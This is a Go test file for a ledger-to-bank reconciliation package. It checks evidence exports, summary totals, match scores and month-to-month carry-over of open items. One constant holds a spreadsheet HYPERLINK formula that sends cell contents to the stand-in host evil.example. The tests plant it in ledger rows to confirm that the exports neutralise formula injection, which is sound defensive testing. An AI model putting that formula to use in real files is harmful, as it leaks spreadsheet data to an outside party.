package recon

import (
	"encoding/csv"
	"encoding/json"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"interlock/internal/query"
)

// A formula is what a spreadsheet would run if the cell were none.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"open")`

// confine opens a confined workspace with tables of a test's space.
func confine(t *testing.T, s *memorySpace, tables ...string) *query.Workspace {
	t.Helper()
	e, err := query.New(query.Config{Dir: t.TempDir(), MemoryMB: 512})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.Close() })
	var inputs []query.Input
	for _, table := range tables {
		inputs = append(inputs, copyTable(t, s, table))
	}
	w, err := e.OpenWorkspace(t.Context(), query.WorkspaceConfig{Inputs: inputs})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = w.Close() })
	return w
}

// writeEvidence reconciles a small ledger, one of whose rows holds a formula, and writes
// the evidence.
func writeEvidence(t *testing.T, dir string) *Outcome {
	t.Helper()
	s := newSpace(t)
	b := newBank(200, 3)
	for i := range 40 { // matched and open rows
		b.ledger[i*4][2] = formula
	}
	b.load(t, s)
	in := Input{Left: Side{"l", "no"}, Right: Side{"r", "zeile"}, Labels: Labels{Confirmed: s.confirmed(t, 5, 1)}}
	r, err := New(Config{Workspace: confine(t, s, "l", "r")})
	if err != nil {
		t.Fatal(err)
	}
	lesson, err := r.Learn(t.Context(), in)
	if err != nil {
		t.Fatal(err)
	}
	o, err := r.Run(t.Context(), in, lesson.Recipe)
	if err != nil {
		t.Fatal(err)
	}
	files, err := r.WriteEvidence(t.Context(), dir, in, Report{
		Program: "interlock test", By: "ann", At: time.Date(2025, 11, 1, 8, 0, 0, 0, time.UTC), Recipe: lesson.Recipe, Outcome: o, Confirmed: 5,
		Left: SourceReport{Name: "ledger.csv", Rows: o.LeftRows, Key: "no", Hash: "sha256:0a"}, Right: SourceReport{Name: "bank.csv", Rows: o.RightRows, Key: "zeile", Scope: "valuta gte 2024-01-01", Hash: "sha256:0b"},
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		if info, err := os.Stat(filepath.Join(dir, file)); err != nil || info.Size() == 0 || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v", file, info.Mode(), err)
		}
	}
	return o
}

// The evidence says what was matched and why, sums up to the outcome, and holds no
// formula in any format that a spreadsheet opens.
func TestEvidence(t *testing.T) {
	dir := t.TempDir()
	o := writeEvidence(t, dir)
	book, err := excelize.OpenFile(filepath.Join(dir, "evidence.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	if want := []string{"Summary", "Matches", "Open left", "Open right", "Conflicts", "Answers"}; !slices.Equal(book.GetSheetList(), want) {
		t.Errorf("sheets %v", book.GetSheetList())
	}
	formulas := 0
	for sheet, rows := range map[string]int64{"Matches": o.Matched, "Open left": o.UnmatchedLeft, "Open right": o.UnmatchedRight} {
		cells, err := book.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if int64(len(cells)-1) != rows {
			t.Errorf("%s has %d rows, the outcome %d", sheet, len(cells)-1, rows)
		}
		for y, row := range cells {
			for x, cell := range row {
				at, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if f, _ := book.GetCellFormula(sheet, at); f != "" {
					t.Errorf("%s!%s is a formula: %s", sheet, at, f)
				}
				if cell == formula {
					formulas++
				}
			}
		}
	}
	if formulas < 40 {
		t.Errorf("%d cells have the text of the formula", formulas)
	}
	summary, err := book.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, row := range summary {
		text.WriteString(strings.Join(row, " ") + "\n")
	}
	recipe, err := os.ReadFile(filepath.Join(dir, recipeFile))
	if err != nil {
		t.Fatal(err)
	}
	parsed, err := ParseRecipe(recipe)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"ledger.csv", "bank.csv", "sha256:0a", "sha256:0b", parsed.Hash(), "valuta gte 2024-01-01", "amount matched", "amount open", "2025-11-01T08:00:00Z", "Prepared by", "Reviewed by", "Signature"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("the summary does not say %q:\n%s", want, text.String())
		}
	}
	for _, rule := range o.Rules {
		if !strings.Contains(text.String(), rule.Sentence) {
			t.Errorf("the summary does not have the rule %s", rule.Rule)
		}
	}
	checkSummarySums(t, summary)
	checkWaterfalls(t, filepath.Join(dir, "matches.csv"))
	checkHarmlessCSV(t, filepath.Join(dir, "matches.csv"), o.Matched)
	checkHarmlessCSV(t, filepath.Join(dir, "unmatched_left.csv"), o.UnmatchedLeft)
	previous, err := ReadPrevious(dir)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := json.Marshal(previous.Report.Outcome)
	want, _ := json.Marshal(o)
	if string(got) != string(want) {
		t.Errorf("the report says %s, the outcome was %s", got, want)
	}
}

// checkSummarySums adds the summary up as an auditor does: matched and open are all, and the
// reasons are all that is open.
func checkSummarySums(t *testing.T, summary [][]string) {
	t.Helper()
	number := func(row []string, column int) float64 {
		if column >= len(row) {
			return 0
		}
		f, err := strconv.ParseFloat(strings.ReplaceAll(row[column], ",", ""), 64)
		if err != nil {
			t.Fatalf("the summary has %q in column %d of %q", row[column], column, row)
		}
		return math.Round(f * 100)
	}
	rows := map[string][]string{}
	var reasons [][]string
	in := false
	for _, row := range summary {
		switch {
		case len(row) == 0:
			in = false
		case row[0] == "Open rows, by reason":
			in = true
		case in && row[0] != "all open rows":
			reasons = append(reasons, row)
		default:
			rows[row[0]] = row
		}
	}
	for side := 1; side <= 2; side++ {
		if number(rows["rows matched"], side)+number(rows["rows open"], side) != number(rows["rows"], side) {
			t.Errorf("rows matched and open are not all: %v %v %v", rows["rows"], rows["rows matched"], rows["rows open"])
		}
		if number(rows["amount matched"], side)+number(rows["amount open"], side) != number(rows["amount"], side) {
			t.Errorf("amounts matched and open are not all: %v %v %v", rows["amount"], rows["amount matched"], rows["amount open"])
		}
	}
	if len(reasons) < 2 || rows["amount"] == nil || rows["column of the amounts"] == nil {
		t.Fatalf("reasons %v in %v", reasons, summary)
	}
	for column, want := range map[int]float64{1: number(rows["rows open"], 1), 2: number(rows["rows open"], 2), 3: number(rows["amount open"], 1), 4: number(rows["amount open"], 2)} {
		sum := 0.0
		for _, row := range reasons {
			sum += number(row, column)
		}
		if sum != want || number(rows["all open rows"], column) != want {
			t.Errorf("the reasons of column %d add up to %v, all open rows are %v, and %v in the result", column, sum, rows["all open rows"], want)
		}
	}
}

// checkWaterfalls: every match has a score, which is what its comparisons add up to, and
// says its levels in words.
func checkWaterfalls(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	at := func(row []string, column string) float64 {
		v, err := strconv.ParseFloat(row[slices.Index(cells[0], column)], 64)
		if err != nil {
			t.Fatalf("%s of %q: %v", column, row, err)
		}
		return v
	}
	for _, row := range cells[1:] {
		sum := at(row, "closeness")
		for i, column := range cells[0] {
			if strings.HasSuffix(column, " weight") {
				sum += at(row, column)
			}
			if strings.HasSuffix(column, " level") && !strings.Contains(row[i], " ") && row[i] != "differ" && row[i] != "overlap" {
				t.Fatalf("the level %q is no words", row[i])
			}
			if column == "margin" && row[i] == "99.999" {
				t.Fatalf("a margin that does not exist: %v", row)
			}
		}
		if math.Abs(sum-at(row, "score")) > 0.002 {
			t.Fatalf("the weights of %v add up to %.3f, its score is %.3f", row, sum, at(row, "score"))
		}
	}
}

func checkHarmlessCSV(t *testing.T, path string, rows int64) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(cells)-1) != rows {
		t.Errorf("%s has %d rows, want %d", path, len(cells)-1, rows)
	}
	seen := false
	for _, row := range cells {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") || strings.HasPrefix(cell, "+") {
				t.Errorf("%s has the formula %s", path, cell)
			}
			seen = seen || cell == "'"+formula
		}
	}
	if !seen {
		t.Errorf("%s lost the text of the formula", path)
	}
}

// pandas reads every file of the evidence.
func TestEvidenceInPandas(t *testing.T) {
	const python = "/usr/bin/python3"
	if err := exec.Command(python, "-c", "import pandas, openpyxl").Run(); err != nil {
		t.Skip("needs python3 with openpyxl and pandas (package python3-openpyxl)")
	}
	dir := t.TempDir()
	o := writeEvidence(t, dir)
	out, err := exec.Command(python, "-c", `
import pandas as pd, json, sys
d = sys.argv[1] + "/"
book = pd.read_excel(d + "evidence.xlsx", sheet_name=None)
m = pd.read_csv(d + "matches.csv")
assert list(m["match"]) == list(book["Matches"]["match"])
assert (m["left amount"] == book["Matches"]["left amount"]).all()
try:
    import pyarrow
    assert list(pd.read_parquet(d + "matches.parquet")["match"]) == list(m["match"])
except ImportError:
    pass
print(json.dumps([len(m), len(book["Open left"]), len(pd.read_csv(d + "unmatched_right.csv"))]))
`, dir).CombinedOutput()
	var counts []int64
	if err != nil || json.Unmarshal(out, &counts) != nil {
		t.Fatalf("%v %s", err, out)
	}
	if counts[0] != o.Matched || counts[1] != o.UnmatchedLeft || counts[2] != o.UnmatchedRight {
		t.Errorf("%v, %+v", counts, o)
	}
}

// What one month leaves open is matched in the next, once, and what changed is told.
func TestCarryOver(t *testing.T) {
	s := newSpace(t)
	left, right, pairs := hostileRows(120)
	byKey := map[string][]string{}
	for _, row := range right {
		byKey[row[0]] = row
	}
	// The last 20 invoices are paid in the second month only.
	var first, second [][]string
	for i, p := range pairs {
		if i < 100 {
			first = append(first, byKey[p.Right])
		} else {
			second = append(second, byKey[p.Right])
		}
	}
	s.table(t, "l", leftHead, left)
	s.table(t, "r", rightHead, first)
	in := Input{Left: Side{"l", "k"}, Right: Side{"r", "k"}, Labels: Labels{Confirmed: pairs[:5]}}
	recipe, before := s.learnAndRun(t, in)
	if before.UnmatchedLeft < 20 || before.UnmatchedLeft > 22 {
		t.Fatalf("%+v", before)
	}
	r, _ := New(Config{Workspace: s})
	if err := r.OpenItems(t.Context(), in.Left, true, "l_open"); err != nil {
		t.Fatal(err)
	}
	// One open row comes again, corrected, in the second month's file.
	again := slices.Clone(left[119])
	again[1] = "Corrected name"
	s.table(t, "l2", leftHead, [][]string{again})
	s.table(t, "r2", rightHead, second)
	side, carried, err := r.CarryOver(t.Context(), Side{"l2", "k"}, "l_open", "l_all")
	if err != nil {
		t.Fatal(err)
	}
	if carried != before.UnmatchedLeft-1 || side != (Side{"l_all", "k"}) {
		t.Errorf("%d rows were carried over into %v", carried, side)
	}
	now, err := r.Run(t.Context(), Input{Left: side, Right: Side{"r2", "k"}}, recipe)
	if err != nil {
		t.Fatal(err)
	}
	if now.LeftRows != before.UnmatchedLeft || now.Matched < 19 {
		t.Errorf("the second month: %+v", now)
	}
	still, err := r.CountStillOpen(t.Context(), Side{"l2", "k"}, "l_open", true)
	if err != nil || still != now.UnmatchedLeft {
		t.Errorf("%d rows that were carried over are still open, want %d: %v", still, now.UnmatchedLeft, err)
	}
	d := CompareRuns(before, now)
	if d.RateBefore <= 0.8 || d.RateNow <= 0.8 {
		t.Errorf("%+v", d)
	}
	// Rows without a key are named by position and can be carried over as well.
	unnamed := Input{Left: Side{Table: "l"}, Right: Side{Table: "r"}}
	o, err := r.Run(t.Context(), unnamed, recipe)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.OpenItems(t.Context(), unnamed.Left, true, "l_open"); err != nil {
		t.Fatal(err)
	}
	if n, err := r.count(t.Context(), "SELECT count(*) FROM l_open"); err != nil || n != o.UnmatchedLeft-o.Netted {
		t.Errorf("%d open rows, %+v %v", n, o, err)
	}
}

// Rows that were carried over and stay open do not make a month worse than the one before,
// and a rule that matches nothing any more is named by what it says.
func TestDriftIsAboutNewRows(t *testing.T) {
	t.Parallel()
	rules := []RuleOutcome{{Rule: "r1", Sentence: "Rows match where no equals ref."}}
	before := &Outcome{LeftRows: 100, UnmatchedLeft: 20, ByRule: map[string]int64{"r1": 80}}
	now := &Outcome{LeftRows: 70, UnmatchedLeft: 28, Rules: rules, ByRule: map[string]int64{}, Carried: &Carried{Left: 20, OpenLeft: 18}}
	d := CompareRuns(before, now)
	if d.RateBefore != 0.8 || d.RateNow != 0.8 {
		t.Errorf("rates %v and %v", d.RateBefore, d.RateNow)
	}
	if len(d.Findings) != 1 || !strings.Contains(d.Findings[0], rules[0].Sentence) {
		t.Errorf("findings %q", d.Findings)
	}
}

// Of the pairs that were rejected before, those are known whose rows are there, once each.
func TestKnownPairs(t *testing.T) {
	s := newSpace(t)
	s.table(t, "l", []string{"k"}, [][]string{{"A"}, {"B"}, {"B"}})
	s.table(t, "r", []string{"k"}, [][]string{{"X"}, {"Y"}})
	r, err := New(Config{Workspace: s})
	if err != nil {
		t.Fatal(err)
	}
	got, err := r.KnownPairs(t.Context(), Side{"l", "k"}, Side{"r", "k"}, []Pair{{"A", "X"}, {"B", "Y"}, {"C", "X"}, {"A", "Z"}, {"A", "X"}})
	if err != nil || !slices.Equal(got, []Pair{{"A", "X"}}) {
		t.Errorf("known %v, %v", got, err)
	}
}

// Files of another kind than those of the earlier run are refused with what is wrong.
func TestCarryOverOtherFiles(t *testing.T) {
	s := newSpace(t)
	s.table(t, "fresh", []string{"line", "amount"}, [][]string{{"B1", "2.00"}})
	s.table(t, "open", []string{"payment", "amount"}, [][]string{{"P1", "1.00"}})
	r, err := New(Config{Workspace: s})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := r.CarryOver(t.Context(), Side{"fresh", "line"}, "open", "both"); err == nil || !strings.Contains(err.Error(), `named by "line"`) {
		t.Errorf("it says %v", err)
	}
}
